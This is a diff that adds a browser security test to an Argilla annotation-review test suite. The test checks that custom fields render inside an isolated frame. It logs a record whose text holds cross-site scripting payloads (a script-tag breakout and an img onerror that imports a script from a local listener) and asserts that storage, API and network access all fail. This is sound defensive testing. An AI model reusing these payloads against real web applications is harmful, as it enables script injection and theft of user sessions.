@@ -514,3 +514,45 @@ def test_an_imported_row_that_attacks_is_reviewed_like_any_other(
     assert pulled["verdicts"]["approved"] == answered and not pulled["verdicts"].get("edited")
     assert listener.asked == []
     assert pipeline.push(project).counts["sent"] in ({}, {"instruction": 0})
+
+
+def test_a_custom_field_runs_in_a_frame_that_reaches_nothing(
+    argilla_home: RunningArgilla, review: ArgillaReview, listener: Listener, browser: Any
+) -> None:
+    """Its template and its scripts work; a row's text is data to them, and neither finds the key or another host."""
+    import argilla as rg
+
+    listener.asked.clear()
+    url = f"http://127.0.0.1:{listener.port}/attack.js?custom"
+    text = f"</script><script>import('{url}')</script> $& #TEMPLATE# List<String> <img src=x onerror=import('{url}')>"
+    script = f"""<p id="said"></p><p id="tried"></p><script>
+      document.getElementById("said").textContent = record.fields.advanced.text;
+      const tried = [];
+      try {{ top.localStorage; }} catch (error) {{ tried.push(error.name); }}
+      fetch("/api/v1/me").catch((error) => tried.push(error.name)).finally(() => {{
+        document.getElementById("tried").textContent = tried.join(" ");
+      }});
+      import("{url}").catch(() => null);
+      new Image().src = "{url}";
+    </script>"""
+    settings = rg.Settings(
+        fields=[
+            rg.CustomField("simple", template="<b id='said'>{{record.fields.simple.text}}</b><div style='height:321px'></div>"),
+            rg.CustomField("advanced", template=script, advanced_mode=True),
+        ],
+        questions=[rg.LabelQuestion("verdict", labels=["approve", "reject"])],
+    )
+    dataset = rg.Dataset(name="custom", workspace=WORKSPACE, settings=settings, client=review.client).create()
+    dataset.records.log([rg.Record(fields={"simple": {"text": text}, "advanced": {"text": text}})])
+    context = logged_in(browser, argilla_home.url, argilla_home.account("mallory", workspace=WORKSPACE))
+    with page_with(context, policy=True, literal=True) as page:
+        page.goto(f"{argilla_home.url}/dataset/{dataset.id}/annotation-mode")
+        simple, advanced = (page.frame_locator(".custom_field_component iframe").nth(n) for n in (0, 1))
+        simple.locator("#said").wait_for()
+        advanced.locator("#tried", has_text="TypeError").wait_for()
+        assert [frame.locator("#said").text_content() for frame in (simple, advanced)] == [text, text]
+        assert advanced.locator("#tried").text_content() == "SecurityError TypeError"
+        assert page.locator(".custom_field_component iframe").first.bounding_box()["height"] > 321
+        picture(page, "hostile-custom", shows=["Simple" if page.get_by_text("Simple", exact=True).count() else "simple"])
+    context.close()
+    assert listener.asked == []
